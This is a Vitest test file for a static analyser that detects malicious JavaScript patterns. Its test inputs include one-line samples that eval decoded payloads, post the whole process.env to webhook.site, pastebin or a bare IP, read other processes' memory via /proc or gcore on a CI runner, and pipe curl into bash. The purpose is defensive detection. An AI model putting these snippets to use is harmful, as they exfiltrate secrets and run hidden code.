import { describe, expect, it } from 'vitest';
import { leastCpuTimeOf } from '../../../../tests/support/cpu-time.ts';
import { MAX_JAVASCRIPT } from '../limits.ts';
import { type JavaScriptShapes, shapesOf } from './shapes.ts';

function read(code: string): JavaScriptShapes {
  const shapes = shapesOf(code);
  if ('problem' in shapes) throw new Error(`${shapes.problem}: ${code.slice(0, 100)}`);
  return shapes;
}

const maliciousIn = (code: string): string[] => read(code).malicious.map(({ what }) => what);

const DECODES = 'runs code that it decodes';
const SENDS = 'sends the whole environment';
const ENCODES = 'encodes the whole environment';
const MEMORY = 'reads the memory of other processes';

describe('malicious shapes', () => {
  it.each([
    ['eval(atob(data))', DECODES],
    ['(0, eval)(Buffer.from(data, "base64").toString())', DECODES],
    ['globalThis.eval(Buffer.from(data, "hex").toString("utf8"))', DECODES],
    ['new Function("require", atob(data))(require)', DECODES],
    ['const code = Buffer.from(data, "base64").toString(); eval(code)', DECODES],
    ['let code; code = atob(data); function run() { eval(code) } run()', DECODES],
    ['const { runInThisContext } = require("vm"); runInThisContext(atob(data))', DECODES],
    ['const vm = require("node:vm"); new vm.Script(atob(data))', DECODES],
    ['module._compile(zlib.inflateSync(Buffer.from(data, "base64")).toString(), "x.js")', DECODES],
    ['import { execSync as run } from "child_process"; run(atob(data))', DECODES],
    ['require("child_process").exec(Buffer.from(data, "base64").toString())', DECODES],
    ['const cp = __nccwpck_require__(2081); cp.spawn("node", ["-e", atob(data)])', DECODES],
    ['const cp = __importStar(require("child_process")); (0, cp.exec)(`sh -c ${atob(data)}`)', DECODES],
    ['import("data:text/javascript;base64,YWxlcnQoMSk=")', DECODES],
    [`eval(String.fromCharCode(${Array.from({ length: 40 }, (_, index) => 60 + index).join(',')}))`, DECODES],
    ['self["ev" + "al"](atob(data))', DECODES],
    ['fetch("https://example.com", { method: "POST", body: JSON.stringify(process.env) })', SENDS],
    ['const all = process.env; axios.post(url, JSON.stringify({ ...all }))', SENDS],
    ['const req = https.request(options); req.write(JSON.stringify(process.env)); req.end()', SENDS],
    ['fetch(`https://example.com/?${new URLSearchParams(process.env)}`)', SENDS],
    ['const blob = Buffer.from(JSON.stringify(process.env)).toString("base64")', ENCODES],
    ['btoa(JSON.stringify(process["env"]))', ENCODES],
    ['fs.openSync(`/proc/${pid}/mem`)', MEMORY],
    ['fs.readFileSync("/proc/" + pid + "/mem")', MEMORY],
    ['exec("sudo gcore $(pgrep Runner.Worker)")', MEMORY],
    ['https.get("https://webhook.site/abc?d=" + data)', 'talks to webhook.site, where anyone can collect data'],
    [
      'axios.post(["https://paste", "bin.com/api"].join(""), data)',
      'talks to pastebin.com, where anyone can collect data',
    ],
    [
      'https.request({ hostname: "x.oastify.com", method: "POST" })',
      'talks to x.oastify.com, where anyone can collect data',
    ],
    ['fetch(new URL("http://45.148.10.212/upload"), { method: "POST" })', 'talks to the bare address 45.148.10.212'],
    ['fetch("https://[2606:4700:4700::64]/x")', 'talks to the bare address [2606:4700:4700::64]'],
  ])('finds %s', (code, what) => {
    expect(maliciousIn(code)).toEqual([what]);
  });

  it.each([
    'console.log(atob(data))',
    'const text = Buffer.from(data, "base64").toString(); JSON.parse(text)',
    'eval("1 + 1")',
    'eval(fs.readFileSync("config.js", "utf8"))',
    'new Function("a", "b", "return a + b")',
    'function eval2(eval) { eval(atob(data)) }',
    'const Function = make(); Function(atob(data))',
    '/^Bearer (.+)$/.exec(Buffer.from(header, "base64").toString())',
    'const pattern = /a/; pattern.exec(atob(data))',
    'WebAssembly.compile(Buffer.from(wasm, "base64"))',
    'fs.writeFileSync("key.pem", Buffer.from(key, "base64"))',
    'execSync("git rev-parse HEAD").toString("base64")',
    'let code = atob(data); code = "1"; eval(code)',
    'eval(String.fromCharCode(104, 105))',
    'import("./chunk.js"); import("data:text/javascript,export default 1")',
    'spawn("node", ["x.js"], { env: process.env })',
    'fetch(url, { headers: { authorization: process.env.TOKEN } })',
    'fetch(url, { body: JSON.stringify(process.env.NAME) })',
    'console.log(JSON.stringify(process.env))',
    'const env = { ...process.env, CI: "1" }; fs.writeFileSync("env.json", JSON.stringify(env))',
    'stream.write(JSON.stringify(process.env))',
    'fs.readFileSync("/proc/meminfo"); fs.readFileSync("/proc/self/maps"); fs.readFileSync(`/proc/${pid}/stat`)',
    'const help = "The process is called Runner.Worker."',
    'const example = "https://webhook.site/abc"',
    'fetch("http://169.254.169.254/latest/meta-data"); fetch("http://127.0.0.1:3000"); fetch("http://10.0.0.1")',
    'fetch("https://168.63.129.16/machine"); fetch("https://1.1.1.1/dns-query")',
    'fetch("https://notpastebin.com/x"); map.get("1.2.3.4")',
  ])('is quiet about %s', (code) => {
    expect(maliciousIn(code)).toEqual([]);
  });

  it('says the line', () => {
    expect(read('\n\nconst a = 1;\neval(atob(data))').malicious).toEqual([{ what: DECODES, line: 4 }]);
  });
});

describe('other shapes', () => {
  it('finds code that is fetched and evaluated', () => {
    const code = 'const answer = await fetch(url); eval(await answer.text())';
    expect(read(code).remote.map(({ what }) => what)).toEqual(['runs code that it fetches']);
    expect(read('const text = await fetch(url); parse(text)').remote).toEqual([]);
  });

  it('collects scripts that programs are given, and texts that look like one', () => {
    const code =
      'exec.getExecOutput("bash", ["-c", "curl -s x | bash"]); const hint = "Run: curl https://x.example | bash"; log("a | b")';
    expect(read(code).scripts.map(({ text, runs }) => [text, runs])).toEqual([
      ['curl -s x | bash', true],
      ['Run: curl https://x.example | bash', false],
    ]);
  });

  it('collects what a file loads', () => {
    const code =
      'import a from "./a.js"; export * from "./b.js"; require("./c"); import("./d.js"); export { e } from "e"; const r = require; r(f)';
    expect(read(code).modules).toEqual(['./a.js', './b.js', './c', './d.js', 'e']);
  });

  it('reads scripts, modules and odd beginnings alike', () => {
    for (const code of [
      '#!/usr/bin/env node\nreturn 1',
      'export default await 1',
      'var await = 1; await(2)',
      '<!-- x\nlet a',
      'import.meta.url',
    ]) {
      expect(shapesOf(code)).not.toHaveProperty('problem');
    }
    expect(shapesOf('not JavaScript')).toEqual({ problem: 'not_supported' });
  });
});

describe('hostile files end in seconds', () => {
  const size = 200_000;
  it.each<[name: string, code: string, problem: string | undefined]>([
    ['too large', ' '.repeat(MAX_JAVASCRIPT + 1), 'too_large'],
    ['deep parentheses', `${'('.repeat(size)}1${')'.repeat(size)}`, 'too_large'],
    ['deep arrays', '['.repeat(size), 'too_large'],
    ['deep blocks', '{'.repeat(size), 'too_large'],
    ['deep functions', '()=>{'.repeat(2_000) + '}'.repeat(2_000), 'too_large'],
    ['many names in one scope', Array.from({ length: 100_000 }, (_, index) => `let a${index};`).join(''), undefined],
    ['many functions of one name', 'function a(){}'.repeat(100_000), undefined],
    ['many exports', Array.from({ length: 50_000 }, (_, index) => `export{a${index}};`).join(''), undefined],
    [
      'many groups of a pattern',
      `/${Array.from({ length: 20_000 }, (_, index) => `(?<a${index}>)`).join('|')}/`,
      undefined,
    ],
    [
      'a name that doubles itself',
      `const a0="a";${Array.from({ length: 60 }, (_, index) => `const a${index + 1}=a${index}+a${index};`).join('')}eval(a60);f(a60)`,
      undefined,
    ],
    ['names in a circle', 'var a=b,b=a;eval(a);exec(b);a()', undefined],
    [
      'many calls of a long chain',
      `${Array.from({ length: 12 }, (_, index) => `const b${index}=[${`b${index + 1},`.repeat(9)}];`).join('')}${'fetch(b0);'.repeat(20_000)}`,
      'too_large',
    ],
    ['many nodes', '1,'.repeat(1_600_000) + '1', 'too_large'],
  ])('%s', { timeout: 30_000 }, (_name, code, problem) => {
    const spent = leastCpuTimeOf(6_000, () => {
      const shapes = shapesOf(code);
      expect('problem' in shapes ? shapes.problem : undefined).toBe(problem);
    });
    expect(spent).toBeLessThan(6_000);
  });
});
